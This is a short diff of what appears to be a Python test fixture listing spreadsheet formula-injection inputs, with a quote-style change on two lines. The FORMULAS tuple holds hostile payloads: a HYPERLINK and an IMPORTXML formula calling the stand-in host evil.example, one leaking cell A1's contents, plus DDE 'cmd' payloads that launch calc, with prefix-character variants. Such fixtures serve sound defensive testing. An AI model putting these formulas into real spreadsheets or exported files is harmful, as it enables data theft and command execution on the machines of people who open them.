@@ -85,12 +85,12 @@ _HIDDEN = (
     "variation\ufe0f selectors \ufe00 and a combining z\u0335\u0336\u0337algo",
 )
 FORMULAS = (
-    "=HYPERLINK(\"https://evil.example?x=\"&A1, \"click\") will be reviewed.",
+    '=HYPERLINK("https://evil.example?x="&A1, "click") will be reviewed.',
     "=cmd|' /C calc'!A0 will be reviewed.",
     "+1+cmd|' /C calc'!A0 will be reviewed.",
     "-2+3+cmd|' /C calc'!A0 will be reviewed.",
     "@SUM(1+1)*cmd|' /C calc'!A0 will be reviewed.",
-    "\t=IMPORTXML(\"https://evil.example\", \"//a\") will be reviewed.",
+    '\t=IMPORTXML("https://evil.example", "//a") will be reviewed.',
     "＝1+1 will be reviewed in full-width signs.",
 )
 
